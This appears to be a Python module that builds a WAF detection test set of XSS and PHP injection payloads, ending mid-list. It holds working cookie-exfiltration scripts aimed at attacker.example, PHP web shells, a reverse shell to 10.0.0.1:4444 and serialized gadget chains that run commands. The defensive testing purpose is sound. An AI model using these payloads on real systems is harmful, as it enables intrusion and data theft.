"""Blind set "hundredthirtysecond": cross-site scripting and PHP injection written in every dialect that speaks
them, with benign requests that carry the same product names, keywords and syntax innocently.

The angle: dialects. For each detection title, the same attack written for each browser engine, markup
namespace, client framework, interpreter version and operating system that understands it, beyond the obvious
one: HTML5 as Blink, Gecko and WebKit parse it, XHTML and XML namespaces, SVG 1.1 and SVG 2, MathML, old
Trident/IE 6-11, Edge legacy, Presto and Netscape 4 quirks (VBScript, expression(), behaviors, data binding,
HTML+TIME, conditional comments), AngularJS 1.0-1.8 sandbox generations, Vue 2 and Vue 3 render helpers, Alpine,
petite-vue, htmx, Knockout and Mavo; PHP 4/5 (long arrays, asp_tags, script language=php, /e modifier,
create_function), PHP 7 (uniform variable syntax, string-callables, NOT/XOR strings, FFI) and PHP 8 (match,
first-class callables), Linux, Windows (XAMPP, IIS, cmd.exe, PowerShell, NTFS streams) and macOS paths, php-cgi,
php-fpm, Apache .htaccess and .user.ini. Each list's comment names the dialect and its target.

Families and sub-families (one per detection title, as remembered):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction),
    javascript-uri, html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-client-template
  php: php-open-tag, php-function-call, php-variable-functions, php-wrappers, php-object-injection,
    php-config-directives, superglobals, php-file-upload, php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field or filename, the URL path), once the way a WAF regression suite sends it (placements prefixed
"rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi)
under arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body,
a raw form-typed body that is not key=value, or in User-Agent, Referer, a custom header or a cookie. Upload names
go as multipart filenames; php-cgi argument injection (CVE-2012-1823, CVE-2024-4577) goes as the bare query
string; superglobal overwrites written as `name=value` go unquoted as a query; standalone XML/SVG documents go
as the whole XML body. PHP serialized objects are built here with exact byte lengths.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import urllib.parse
import zlib
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put, Record, request
from .family_gen import _get
from .records import print_records

NAME = "hundredthirtysecond"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _deflate_b64(text: str) -> str:
    """gzinflate()'s input: raw DEFLATE (no zlib header), base64-encoded."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(comp.compress(text.encode()) + comp.flush()).decode()


# ----------------------------------------------------------------------------------------------------------------
# PHP serialize() output, built with exact byte lengths (protected "\0*\0name", private "\0Class\0name")
class Obj:
    def __init__(self, cls: str, props: dict[str, Any]) -> None:
        self.cls = cls
        self.props = props


def _ss(text: str) -> str:
    return f's:{len(text.encode())}:"{text}";'


def ser(v: Any) -> str:
    if isinstance(v, bool):
        return f"b:{int(v)};"
    if isinstance(v, int):
        return f"i:{v};"
    if v is None:
        return "N;"
    if isinstance(v, str):
        return _ss(v)
    if isinstance(v, list):
        return f"a:{len(v)}:{{" + "".join(ser(i) + ser(x) for i, x in enumerate(v)) + "}"
    if isinstance(v, dict):
        return f"a:{len(v)}:{{" + "".join(ser(k) + ser(x) for k, x in v.items()) + "}"
    if isinstance(v, Obj):
        body = "".join(_ss(k) + ser(x) for k, x in v.props.items())
        return f'O:{len(v.cls.encode())}:"{v.cls}":{len(v.props)}:{{{body}}}'
    raise TypeError(type(v))


def ser_c(cls: str, data: str) -> str:
    """A class with its own Serializable format (C:)."""
    return f'C:{len(cls.encode())}:"{cls}":{len(data.encode())}:{{{data}}}'


P = "\0*\0"
FAKER = r"Faker\Generator"
GUZZLE_FN = r"GuzzleHttp\Psr7\FnStream"
JAR = r"GuzzleHttp\Cookie\CookieJar"
FJAR = r"GuzzleHttp\Cookie\FileCookieJar"

SER_GUZZLE_FN = ser(Obj(GUZZLE_FN, {f"\0{GUZZLE_FN}\0methods": {"close": "phpinfo"}, "_fn_close": "phpinfo"}))
SER_LARAVEL_FAKER = ser(Obj(r"Illuminate\Broadcasting\PendingBroadcast",
                            {P + "events": Obj(FAKER, {P + "formatters": {"dispatch": "system"}}), P + "event": "id"}))
SER_LARAVEL_DISPATCHER = ser(Obj(r"Illuminate\Broadcasting\PendingBroadcast", {
    P + "events": Obj(r"Illuminate\Bus\Dispatcher", {P + "queueResolver": "system"}),
    P + "event": Obj(r"Illuminate\Broadcasting\BroadcastEvent", {"connection": "uname -a"})}))
SER_MONOLOG = ser(Obj(r"Monolog\Handler\SyslogUdpHandler", {P + "socket": Obj(r"Monolog\Handler\BufferHandler", {
    P + "handler": Obj(r"Monolog\Handler\BufferHandler", {
        P + "handler": None, P + "bufferSize": -1, P + "buffer": [{0: "id", "level": None}], P + "level": None,
        P + "initialized": True, P + "bufferLimit": -1, P + "processors": ["current", "system"]}),
    P + "bufferSize": -1, P + "buffer": [{0: "id", "level": None}], P + "level": None, P + "initialized": True,
    P + "bufferLimit": -1, P + "processors": ["current", "system"]})}))
SER_YII = ser(Obj(r"yii\db\BatchQueryResult", {"\0yii\\db\\BatchQueryResult\0_dataReader": Obj(FAKER, {
    P + "formatters": {"close": [Obj(r"yii\rest\CreateAction", {"checkAccess": "system", "id": "id"}), "run"]}})}))
SER_GUZZLE_FILE = ser(Obj(FJAR, {
    f"\0{JAR}\0cookies": [Obj(r"GuzzleHttp\Cookie\SetCookie", {"\0GuzzleHttp\\Cookie\\SetCookie\0data": {
        "Name": "x", "Value": "<?php system($_GET[0]); ?>", "Domain": "x", "Expires": 1, "Discard": False}})],
    f"\0{JAR}\0strictMode": False, f"\0{FJAR}\0filename": "/var/www/html/s.php",
    f"\0{FJAR}\0storeSessionCookies": True}))
SER_GUZZLE_FILE_WIN = ser(Obj(FJAR, {
    f"\0{JAR}\0cookies": [Obj(r"GuzzleHttp\Cookie\SetCookie", {"\0GuzzleHttp\\Cookie\\SetCookie\0data": {
        "Name": "x", "Value": "<?=`$_GET[0]`?>", "Domain": "x", "Expires": 1, "Discard": False}})],
    f"\0{JAR}\0strictMode": False, f"\0{FJAR}\0filename": "C:\\xampp\\htdocs\\s.php",
    f"\0{FJAR}\0storeSessionCookies": True}))
SER_THINKPHP_WIN = ser(Obj(r"think\process\pipes\Windows", {
    "\0think\\process\\pipes\\Windows\0files": ["/var/www/html/public/.htaccess"]}))
SER_JOOMLA = ser(Obj("JDatabaseDriverMysqli", {
    "fc": Obj("JSimplepieFactory", {}),
    "\0\0\0disconnectHandlers": [[Obj("SimplePie", {
        "sanitize": Obj("JDatabaseDriverMysql", {}), "feed_url": "phpinfo();JFactory::getConfig();exit",
        "cache_name_function": "assert", "cache": True, "cache_class": Obj("JDatabaseDriverMysql", {})}), "init"]],
    "\0\0\0connection": True}))
SER_WP_FILTERED = ser_c("Requests_Utility_FilteredIterator",
                        "x:i:0;" + ser(["id"]) + ";m:" + ser({P + "callback": "system"}))
SER_ARRAYOBJECT = ser_c("ArrayObject", "x:i:0;" + ser([Obj(FAKER, {P + "formatters": {"__toString": "phpinfo"}})])
                        + ";m:a:0:{}")
SER_SPLSTORAGE = ser_c("SplObjectStorage", "x:i:1;" + ser(Obj(GUZZLE_FN, {"_fn_close": "phpinfo"})) + ",N;;m:a:0:{}")
SER_ADMIN = ser(Obj("User", {"username": "admin", "isAdmin": True, "role": "administrator"}))
SER_AUTH_TRUE = ser({"username": "admin", "password": True})
SER_WAKEUP = 'O:4:"User":3:{s:8:"username";s:5:"admin";s:4:"role";s:5:"admin";}'   # count 3 > 2: CVE-2016-7124
SER_PLUS = 'O:+4:"User":1:{s:7:"isAdmin";b:1;}'   # PHP 5 accepted the signed length
SER_ESCAPED_S = 'O:4:"User":1:{S:7:"\\69sAdmin";b:1;}'   # S: with \hex escapes (PHP 5.2+)
SER_REF_UAF = 'a:2:{i:0;' + ser_c("ArrayObject", "x:i:0;a:0:{};m:a:0:{}") + "i:1;R:2;}"
SER_SWIFT = ser(Obj("Swift_ByteStream_TemporaryFileByteStream", {
    "\0Swift_ByteStream_FileByteStream\0_path": "/var/www/html/uploads/s.php",
    "\0Swift_ByteStream_FileByteStream\0_mode": "w+b",
    "\0Swift_ByteStream_AbstractFilterableInputStream\0_filters": [], P + "_sequence": 0}))
SER_PHPGGC_B64 = _b64(SER_LARAVEL_FAKER)
SER_MONOLOG_B64 = _b64(SER_MONOLOG)
SER_IN_ARRAY = ser({"lang": "en", "prefs": Obj(r"Illuminate\Broadcasting\PendingBroadcast", {
    P + "events": Obj(FAKER, {P + "formatters": {"dispatch": "passthru"}}), P + "event": "cat /etc/passwd"})})
SER_DOCTRINE_WIN = ser(Obj(r"Doctrine\Common\Cache\Psr6\CacheAdapter", {
    P + "deferredItems": [Obj(r"Doctrine\Common\Cache\Psr6\CacheItem", {
        P + "key": "C:\\inetpub\\wwwroot\\s.php", P + "value": "<?php system($_GET[0]);"})]}))

# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one kind of place.
Entry = str | tuple[str, str, str]

SVG_ONLOAD_B64 = _b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>')
SCRIPT_B64 = _b64("<script>alert(document.domain)</script>")

# --- xss -------------------------------------------------------------------------------------------------------
# libinjection-xss: breaking out of each HTML5 tokenizer state (Blink, Gecko, WebKit parse these alike)
LIBINJ_HTML5: list[Entry] = [
    '"><img src=x onerror=alert(document.domain)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><img src onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "</style><svg/onload=alert(1)>",
    "</xmp><img src=x onerror=prompt(1)>",
    "</noscript><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<img/src/onerror=alert(1)>",
    "<x onclick=alert(1)>click me</x>",
    "</iframe><img src=x onerror=alert(1)>",
]
# libinjection-xss: IE's backtick attribute quote, XHTML CDATA ends, Netscape/Presto unclosed tags
LIBINJ_OLD: list[Entry] = [
    "`><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "</option></select><img src=x onerror=alert(1)>",
    "<a\"/onclick=alert(1)>click",
    "<img src=x\x0conerror=alert(1)>",
]
# script-tag: HTML5 and module scripts (Chrome, Firefox, Safari)
SCRIPT_HTML5: list[Entry] = [
    "<script>alert(document.cookie)</script>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    "<script type=\"module\">import('//attacker.example/m.js')</script>",
    "<script/src=data:,alert(1)></script>",
    "<script src=data:text/javascript;base64,YWxlcnQoMSk=></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>",
    "<script>fetch('//attacker.example/?c='+document.cookie)</script>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<script>onerror=alert;throw 1</script>",
    "<script>\nalert(1)\n</script\t\n>",
    "<script>import('data:text/javascript,alert(1)')</script>",
]
# script-tag: old type/language dialects (IE 6-10 VBScript and JScript.Encode, Netscape ecmascript), XHTML
SCRIPT_OLD: list[Entry] = [
    "<script type=\"text/vbscript\">MsgBox \"XSS\"</script>",
    "<script language=\"VBScript\">document.location=\"//attacker.example/?\"&document.cookie</script>",
    "<script language=\"JScript.Encode\" src=\"//attacker.example/x.jse\"></script>",
    "<script type=\"text/ecmascript\">alert(1)</script>",
    "<script type=\"application/x-javascript\">alert(1)</script>",
    "<script for=window event=onload>alert(1)</script>",
    "<script>/*<![CDATA[*/alert(1)/*]]>*/</script>",
    "<html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">alert(1)</html:script>",
]
# event-handler: handlers that fire unaided in Blink/Gecko/WebKit
EVENT_MODERN: list[Entry] = [
    "<body onload=alert(1)>",
    "<img src=1 onerror=confirm(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
    "<iframe onload=alert(1)></iframe>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<input onauxclick=alert(1) value=middle-click>",
    "<div contenteditable onblur=alert(1)>edit me</div>",
]
# event-handler: Gecko/Trident-only and frameset handlers (Firefox marquee, IE onreadystatechange)
EVENT_OLD: list[Entry] = [
    "<marquee onstart=alert(1)>x</marquee>",
    "<marquee behavior=alternate onbounce=alert(1)>x</marquee>",
    "<frameset onload=alert(1)>",
    "<xml onreadystatechange=alert(1)>",
    "<body onbeforeprint=alert(1)>",
    "<object data=x onerror=alert(1)>",
]
# attribute-vector: HTML5 formaction/srcdoc/src/poster and attribute-context breakouts (modern engines)
ATTR_MODERN: list[Entry] = [
    "<form><button formaction=javascript:alert(1)>Submit</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>go</button>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<iframe srcdoc=\"<img src=x onerror=alert(parent.document.cookie)>\"></iframe>",
    "<form action=javascript:alert(1)><input type=submit>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "\" style=\"position:fixed;inset:0\" onmouseover=\"alert(1)",
    "x\" onerror=\"alert(1)",
]
# attribute-vector: IE 6/7, Netscape and Presto src/background/dynsrc/lowsrc/poster attributes
ATTR_OLD: list[Entry] = [
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<bgsound src=javascript:alert(1)>",
    "<input type=image src=javascript:alert(1)>",
    "<video poster=javascript:alert(1)//></video>",
    "<frame src=javascript:alert(1)>",
    "x` onmouseover=alert(1) `",
]
# javascript-uri: each engine's URL schemes that run script (javascript/vbscript/livescript/mocha/data/jar/mhtml)
JS_URI: list[Entry] = [
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "vbscript:msgbox(\"XSS\")",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64," + SCRIPT_B64,
    "data:image/svg+xml;base64," + SVG_ONLOAD_B64,
    "jar:http://attacker.example/x.jar!/xss.html",
    "mhtml:http://attacker.example/x.mht!xss.html",
    "javascript:void(document.location='//attacker.example/?'+document.cookie)",
    "javascript:fetch('//attacker.example',{method:'POST',body:localStorage.token})",
    "<a href=\"javascript:top['al'+'ert'](1)\">Click</a>",
    "javascript:eval(location.hash.slice(1))",
    "<a href=\"  javascript:alert(1)\">x</a>",
]
# html-injection: iframe/object/embed/base/meta/link/form in current browsers (phishing, redirect, exfil)
HTML_MODERN: list[Entry] = [
    "<iframe src=//attacker.example/phish style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\">",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64," + SCRIPT_B64 + "\"></object>",
    "<embed src=\"data:image/svg+xml;base64," + SVG_ONLOAD_B64 + "\">",
    "<embed type=\"image/svg+xml\" src=\"//attacker.example/x.svg\">",
    "<base href=\"//attacker.example/\">",
    "<base target=_blank href=//attacker.example/>",
    "<meta http-equiv=\"refresh\" content=\"0;url=//attacker.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<form action=//attacker.example/steal method=post><input name=password type=password placeholder=Password>"
    "<input type=submit value=Login></form>",
    "<img src='//attacker.example/log?html=",
    "<portal src=//attacker.example/></portal>",
    "<frameset><frame src=//attacker.example/></frameset>",
]
# html-injection: plugin and ActiveX era (Flash, Java applets, IE scriptlets, HTML imports in Chrome < 73)
HTML_OLD: list[Entry] = [
    "<object data=\"//attacker.example/x.swf\" type=\"application/x-shockwave-flash\">"
    "<param name=allowscriptaccess value=always></object>",
    "<embed src=\"//attacker.example/xss.swf\" allowscriptaccess=always>",
    "<applet code=\"Exploit.class\" codebase=\"//attacker.example/\"></applet>",
    "<object type=\"text/x-scriptlet\" data=\"//attacker.example/x.sct\"></object>",
    "<object classid=\"clsid:ae24fdae-03c6-11d1-8b76-0080c744f389\">"
    "<param name=url value=javascript:alert(1)></object>",
    "<link rel=import href=//attacker.example/x.html>",
    "<meta http-equiv=\"Set-Cookie\" content=\"PHPSESSID=attacker-fixed\">",
]
# svg-mathml: SVG 1.1/SVG 2 in HTML (Chrome, Firefox, Safari), SMIL animation and foreignObject
SVG: list[Entry] = [
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<svg><image href=x onerror=alert(1)>",
    "<svg><set onbegin=alert(1) attributename=x to=1>",
    "<svg><script href=\"data:,alert(1)\"/>",
    "<svg><script xlink:href=\"data:,alert(1)\"></script></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
]
# svg-mathml: Opera SVG Tiny handlers, standalone SVG/XML documents, XHTML namespace prefixes
SVG_XML: list[Entry] = [
    "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler></svg>",
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>",
    "<a:img xmlns:a=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"alert(1)\"/>",
]
# svg-mathml: MathML (Firefox href on any element, maction; namespace-confusion mXSS in sanitizers)
MATHML: list[Entry] = [
    "<math href=\"javascript:alert(1)\">CLICKME</math>",
    "<math><maction actiontype=\"statusline#x\" xlink:href=\"javascript:alert(1)\">CLICK</maction></math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">X</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
]
# css-expression: IE 5-7 expression() and its comment/escape spellings
CSS_IE: list[Entry] = [
    "<div style=\"width:expression(alert(1))\">",
    "<div style=\"xss:expr/**/ession(alert(1))\">",
    "<div style=\"xss:\\65xpression(alert(1))\">",
    "<div style=\"x:\\0065\\0078\\0070\\0072\\0065\\0073\\0073\\0069\\006f\\006e(alert(1))\">",
    "<style>*{x:expression(alert(1))}</style>",
    "<img style=\"xss:expression(alert(document.cookie))\">",
    "expression(alert(document.cookie))",
    "<div style=\"behavior:url(//attacker.example/xss.htc)\">",
    "<style>*{-ms-behavior:url(//attacker.example/x.htc)}</style>",
]
# css-expression: Gecko -moz-binding (Firefox <= 3), Presto -o-link, url(javascript:) in IE6/Netscape
CSS_OTHER: list[Entry] = [
    "<div style=\"-moz-binding:url(//attacker.example/xss.xml#xss)\">",
    "<div style=\"-o-link:'javascript:alert(1)';-o-link-source:current\">X</div>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<div style=\"background-image:url(javascript:alert(1))\">",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x</li></ul>",
    "color:red;background:url(javascript:alert(1))",
]
# css-expression: CSS injection in current browsers (attribute-selector exfiltration, unicode-range leaks)
CSS_MODERN: list[Entry] = [
    "<style>input[name=csrf_token][value^=a]{background:url(//attacker.example/?a)}</style>",
    "red;}body{background:url(//attacker.example/leak)}",
    "<style>@import url(//attacker.example/x.css);</style>",
    "<style>@font-face{font-family:x;src:url(//attacker.example/?A);unicode-range:U+0041}</style>",
]
# template-literal-dom-sink: JavaScript string/template contexts (V8, SpiderMonkey, JavaScriptCore alike)
JS_CONTEXT: list[Entry] = [
    "${alert(document.domain)}",
    "`-alert(1)-`",
    "';alert(String.fromCharCode(88,83,83))//",
    "\\';alert(1)//",
    "\"-alert(1)-\"",
    "'-alert(1)-'",
    "</script><svg onload=alert(1)>",
    "\"};alert(1);{\"",
    "'+alert(1)+'",
    "';x=alert,x(1)//",
    "\";top[/al/.source+/ert/.source](1)//",
    "alert`1`",
]
# template-literal-dom-sink: DOM sinks (innerHTML via hash, document.write, eval-likes, jQuery < 1.9 selectors)
DOM_SINK: list[Entry] = [
    "#<img src=x onerror=alert(1)>",
    "#\"><img src=/ onerror=alert(document.cookie)>",
    "document.write('<script src=//attacker.example/x.js><\\/script>')",
    "setTimeout('alert(1)')",
    "Function('alert(1)')()",
    "[].constructor.constructor('alert(1)')()",
    "__proto__[innerHTML]=<img/src/onerror=alert(1)>",
    "__proto__[srcdoc][]=<script>alert(1)</script>",
    "constructor[prototype][onload]=alert(1)",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
]
# ie-filter-style: IE 5-11 only constructs (data binding, HTML+TIME, conditional comments, <comment>, behaviors)
IE_ONLY: list[Entry] = [
    "<script for=document event=onreadystatechange>alert(1)</script>",
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"
    "<span datasrc=#x datafld=c dataformatas=html></span>",
    "<html xmlns:t=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\">"
    "<t:set attributeName=\"innerHTML\" to=\"XSS&lt;script defer&gt;alert(1)&lt;/script&gt;\">",
    "<div style=\"behavior:url(#default#time2)\" onbegin=\"alert(1)\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<a href=\"#\" style=\"behavior:url(#default#AnchorClick)\" folder=\"javascript:alert(1)\">x</a>",
    "<meta http-equiv=X-UA-Compatible content=IE=7><div style=x:expression(alert(1))>",
    "<img src=\"vbscript:msgbox('XSS')\">",
    "<a href=\"vbscript:MsgBox(document.cookie)\">x</a>",
    "<iframe src=vbscript:msgbox(1)></iframe>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input type=\"image\" dynsrc=\"javascript:alert(1)\">",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<table><td background=\"javascript:alert(1)\">",
]
# ie-filter-style: Netscape 4 JavaScript entities, layers and script-typed style
IE_NETSCAPE: list[Entry] = [
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LAYER SRC=\"//attacker.example/xss.html\"></LAYER>",
    "<STYLE type=\"text/javascript\">alert('XSS');</STYLE>",
]
# encoded-entity: HTML named/decimal/hex/zero-padded/semicolon-less entities (HTML5 named set in modern engines)
ENC_ENTITY: list[Entry] = [
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058alert(1)\">x</a>",
    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    "<a href=\"javas&Tab;cript:alert(1)\">x</a>",
    "<a href=\"jav&NewLine;ascript&colon;alert(1)\">x</a>",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    "<img src=x onerror=a&#108;ert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "<svg><script>&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;</script></svg>",
]
# encoded-entity: charset and transport dialects (IE UTF-7, IIS %u, ASP.NET best-fit fullwidth, overlong UTF-8,
# double URL encoding, JavaScript \x \u and octal escapes)
ENC_CHARSET: list[Entry] = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%3Csvg%20onload%3Dalert(1)%3E",
    "<img src=x onerror=\\u0061\\u006c\\u0065\\u0072\\u0074(1)>",
    "<img src=x onerror=eval('\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29')>",
    "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\74script\\76alert(1)\\74/script\\76",
    "<img src=x onerror=location=atob('" + _b64("javascript:alert(1)") + "')>",
]
# angular-vue-client-template: AngularJS sandbox escapes, one per generation (1.0 to 1.5), and 1.6+ without one
ANGULAR: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
    "{{'a'.constructor.prototype.charAt=''.valueOf;"
    "$eval(\"x='\\\"+(y='if(!window\\\\u002ex)alert(window\\\\u002ex=1)')+eval(y)+\\\"'\");}}",
    "{{{}[{toString:[].join,length:1,0:'__proto__'}].assign=[].join;'a'.constructor.prototype.charAt=[].join;"
    "$eval('x=alert(1)//');}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "<input ng-focus=$event.composedPath()|orderBy:'(z=alert)(1)' autofocus>",
    "<x ng-app ng-init=\"constructor.constructor('alert(1)')()\">",
    "[[constructor.constructor('alert(document.cookie)')()]]",
]
# angular-vue-client-template: Vue 2 and Vue 3 render helpers, Alpine, petite-vue, htmx, Knockout, Mavo
VUE_ETC: list[Entry] = [
    "{{_c.constructor('alert(1)')()}}",
    "{{_v.constructor('alert(document.domain)')()}}",
    "<x @click=_c.constructor('alert(1)')()>click</x>",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{_createBlock.constructor('alert(document.cookie)')()}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<div x-data x-init=\"alert(document.domain)\"></div>",
    "<div v-scope @vue:mounted=\"alert(1)\"></div>",
    "<div hx-get=\"//attacker.example/x\" hx-trigger=\"load\" hx-swap=\"outerHTML\"></div>",
    "<p data-bind=\"html:'<img src=x onerror=alert(1)>'\"></p>",
    "[self.alert(1)]",
]

# --- php -------------------------------------------------------------------------------------------------------
# php-open-tag: every opening tag PHP has accepted (PHP 5 short/asp/script tags; <?= since 5.4), Linux targets
OPEN_TAGS: list[Entry] = [
    "<?php system($_GET['c']); ?>",
    "<?php echo shell_exec('id'); ?>",
    "<?=`$_GET[0]`?>",
    "<? passthru($_REQUEST['cmd']); ?>",
    "<% system($_GET['c']); %>",
    "<%= `id` %>",
    "<script language=\"php\">system('id');</script>",
    "<script language=php>phpinfo();</script>",
    "<?PHP eval($_POST[1]);?>",
    "<?php\nsystem('id');",
    "<?php\tsystem('uname -a');?>",
    "GIF89a<?php system($_GET['c']); ?>",
    "<?php @eval(base64_decode($_POST['x'])); ?>",
    "<?php include($_GET['p']); ?>",
    "<?php file_put_contents('s.php','<?php system($_GET[0]);'); ?>",
    "<?=include'/etc/passwd'?>",
    "<?php echo md5('pwned'); ?>",
    "<?php $s=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
]
# php-open-tag: Windows (IIS/XAMPP) payloads and PHP 7.4/8.x-only syntax behind the tag
OPEN_TAGS_WIN_NEW: list[Entry] = [
    "<?php exec('cmd.exe /c whoami > C:\\\\xampp\\\\htdocs\\\\w.txt'); ?>",
    "<?php echo `whoami /all`; ?>",
    "<?php echo shell_exec('powershell -nop -c Get-LocalUser'); ?>",
    "<?=$_GET[0]($_GET[1])?>",
    "<?php match(true){default=>system('id')}; ?>",
    "<?php (fn()=>system('id'))(); ?>",
    "<?php system(...)('id'); ?>",
